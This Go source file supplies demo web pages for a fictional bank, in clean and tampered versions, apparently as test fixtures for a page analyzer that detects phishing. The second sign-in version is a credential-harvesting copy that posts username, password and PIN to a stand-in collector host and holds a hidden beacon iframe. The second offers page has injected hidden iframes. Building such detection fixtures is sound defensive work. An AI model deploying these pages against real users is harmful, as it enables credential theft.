package demoserver

// PageVersion is one variant of a page. Version 1 is always the clean page;
// later versions show the same page after it has been tampered with.
type PageVersion struct {
	HTML        string
	ContentType string
	Headers     map[string]string

	// Expect documents what the page analyzer should report for this
	// variant; the fixtures are checked against it in tests.
	Expect Expectation
}

// Expectation is the page structure a variant is built to exhibit.
type Expectation struct {
	HasLoginForm      bool
	HiddenIframeCount int
	ExternalLinkCount int
}

// PageDefinition holds all versions of a single page.
type PageDefinition struct {
	Path        string
	Description string
	Versions    map[int]PageVersion
}

// GetAllPages returns all demo page definitions.
func GetAllPages() []PageDefinition {
	return []PageDefinition{
		getHomePage(),
		getSigninPage(),
		getPromoPage(),
	}
}

// ===== HOME PAGE =====
func getHomePage() PageDefinition {
	return PageDefinition{
		Path:        "/",
		Description: "Plain landing page with internal navigation only",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Demo Bank - Home</title>
    <meta name="description" content="Demo Bank online services">
    <link rel="icon" href="/static/favicon.ico">
</head>
<body>
    <h1>Welcome to Demo Bank</h1>
    <nav>
        <a href="/">Home</a> |
        <a href="/signin">Sign in</a> |
        <a href="/promo">Offers</a>
    </nav>
</body>
</html>`,
			},
		},
	}
}

// ===== SIGN-IN PAGE =====
func getSigninPage() PageDefinition {
	return PageDefinition{
		Path:        "/signin",
		Description: "Sign-in form; v2 is a credential harvesting copy",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head><title>Demo Bank - Sign in</title></head>
<body>
    <h1>Sign in</h1>
    <form action="/signin" method="POST">
        <input type="text" name="username" placeholder="Username">
        <input type="password" name="password" placeholder="Password">
        <button type="submit">Sign in</button>
    </form>
    <a href="/">Back</a>
</body>
</html>`,
				Headers: map[string]string{
					"Content-Security-Policy": "default-src 'self'",
					"X-Frame-Options":         "DENY",
				},
				Expect: Expectation{HasLoginForm: true},
			},
			2: {
				HTML: `<!DOCTYPE html>
<html>
<head><title>Demo Bank - Verify your account</title></head>
<body>
    <h1>Your account has been suspended</h1>
    <p>Confirm your details to unlock your account.</p>
    <form action="https://collector.example.net/harvest" method="POST">
        <input type="text" name="username">
        <input type="password" name="password">
        <input type="password" name="pin">
        <button type="submit">Verify</button>
    </form>
    <iframe src="https://collector.example.net/beacon" width="0" height="0"></iframe>
    <a href="https://collector.example.net/help">Help</a>
</body>
</html>`,
				Expect: Expectation{HasLoginForm: true, HiddenIframeCount: 1, ExternalLinkCount: 1},
			},
		},
	}
}

// ===== PROMO PAGE =====
func getPromoPage() PageDefinition {
	return PageDefinition{
		Path:        "/promo",
		Description: "Offers page; v2 carries injected hidden iframes",
		Versions: map[int]PageVersion{
			1: {
				HTML: `<!DOCTYPE html>
<html>
<head><title>Demo Bank - Offers</title></head>
<body>
    <h1>Current offers</h1>
    <iframe src="https://video.example.org/embed/offers" width="560" height="315"></iframe>
    <a href="https://partner.example.org/">Our partner</a>
</body>
</html>`,
				Expect: Expectation{ExternalLinkCount: 1},
			},
			2: {
				HTML: `<!DOCTYPE html>
<html>
<head><title>Demo Bank - Offers</title></head>
<body>
    <h1>Current offers</h1>
    <iframe src="https://video.example.org/embed/offers" width="560" height="315"></iframe>
    <iframe src="https://ads.example.top/pop" style="display:none"></iframe>
    <iframe src="https://ads.example.top/track" style="visibility: hidden"></iframe>
    <a href="https://partner.example.org/">Our partner</a>
    <a href="https://ads.example.top/claim">Claim your prize</a>
</body>
</html>`,
				Expect: Expectation{HiddenIframeCount: 2, ExternalLinkCount: 2},
			},
		},
	}
}
